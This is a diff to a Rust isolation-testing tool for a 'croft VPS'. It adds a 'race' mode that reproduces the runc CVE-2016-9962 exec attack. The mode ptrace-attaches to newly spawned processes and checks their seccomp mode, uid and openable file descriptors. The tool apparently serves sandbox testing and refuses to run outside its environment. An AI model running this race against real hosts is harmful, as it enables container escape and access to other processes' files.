@@ -6,6 +6,8 @@
 //! time it already has, accounting is pointed at a file that does not
 //! exist), and it refuses to run outside a croft VPS anyway.
 
+use std::os::unix::fs::OpenOptionsExt;
+
 /// Run one raw system call and print its errno (0 if it succeeded).
 fn probe(name: &str, nr: libc::c_long, args: [usize; 5]) {
     // SAFETY: every pointer passed in `args` points at a live local of
@@ -20,6 +22,75 @@ fn probe(name: &str, nr: libc::c_long, args: [usize; 5]) {
     println!("{name} {errno}");
 }
 
+/// `syscall_probe race SECONDS`: the attack on `croft exec` of runc's
+/// CVE-2016-9962. For SECONDS it spins `PTRACE_ATTACH` on the next pid the
+/// VPS's pid namespace will hand out (and now and then on the newest); every process it catches is
+/// inspected while stopped: its seccomp mode, its uid as seen inside, and
+/// which of its descriptors beyond stdio it can open through
+/// /proc/PID/fd. A caught process counts as *won* if it runs without
+/// seccomp, as a uid the VPS does not map (host root shows as 65534), or
+/// holds a descriptor the attacker could open. Prints one line per catch
+/// and `race attached=N won=W` at the end.
+fn race(seconds: u64) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
+    let (mut attached, mut won) = (0u32, 0u32);
+    let me = std::process::id() as libc::pid_t;
+    while std::time::Instant::now() < deadline {
+        let last: libc::pid_t = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+            .ok()
+            .and_then(|s| s.trim().parse().ok())
+            .unwrap_or(me);
+        // The next pid (a process being born) and the newest one (a
+        // command already running: catching it is allowed, and shows the
+        // attack works at all).
+        for i in 0..200 {
+            let pid = last + 1 - (i % 16 == 15) as libc::pid_t;
+            // SAFETY: PTRACE_ATTACH takes a pid and ignores addr and data.
+            if unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) } != 0 {
+                continue;
+            }
+            attached += 1;
+            let mut status = 0;
+            // SAFETY: waits for the stop of a process we now trace.
+            unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
+            let field = |name: &str| -> String {
+                std::fs::read_to_string(format!("/proc/{pid}/status"))
+                    .unwrap_or_default()
+                    .lines()
+                    .find_map(|l| l.strip_prefix(name).map(|v| v.trim().to_string()))
+                    .unwrap_or_default()
+            };
+            let (seccomp, uid) = (field("Seccomp:"), field("Uid:"));
+            let mut opened = 0;
+            if let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) {
+                for fd in fds.flatten() {
+                    let n: i32 = fd.file_name().to_string_lossy().parse().unwrap_or(0);
+                    if n > 2
+                        && std::fs::OpenOptions::new()
+                            .read(true)
+                            .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
+                            .open(fd.path())
+                            .is_ok()
+                    {
+                        opened += 1;
+                    }
+                }
+            }
+            let caught = seccomp == "0" || uid.split_whitespace().any(|u| u == "65534") || opened > 0;
+            won += u32::from(caught);
+            println!("caught pid={pid} seccomp={seccomp} uid={uid:?} opened={opened} won={caught}");
+            // SAFETY: detaching a process we trace, with no signal; should
+            // the attach's SIGSTOP land after the detach, SIGCONT undoes it.
+            unsafe {
+                libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
+                libc::kill(pid, libc::SIGCONT);
+            }
+            break;
+        }
+    }
+    println!("race attached={attached} won={won}");
+}
+
 fn main() {
     if std::env::var("container").as_deref() != Ok("croft") {
         eprintln!("syscall_probe: refusing to run outside a croft VPS (container=croft is not set)");
@@ -32,6 +103,12 @@ fn main() {
     // `syscall_probe ptrace PID`: try to attach to PID (detaching at once
     // should it work) and print `ptrace errno`.
     let args: Vec<String> = std::env::args().collect();
+    if let [_, mode, seconds] = args.as_slice() {
+        if mode == "race" {
+            race(seconds.parse().expect("seconds"));
+            return;
+        }
+    }
     if let [_, mode, pid] = args.as_slice() {
         if mode == "ptrace" {
             let pid: usize = pid.parse().expect("a pid");
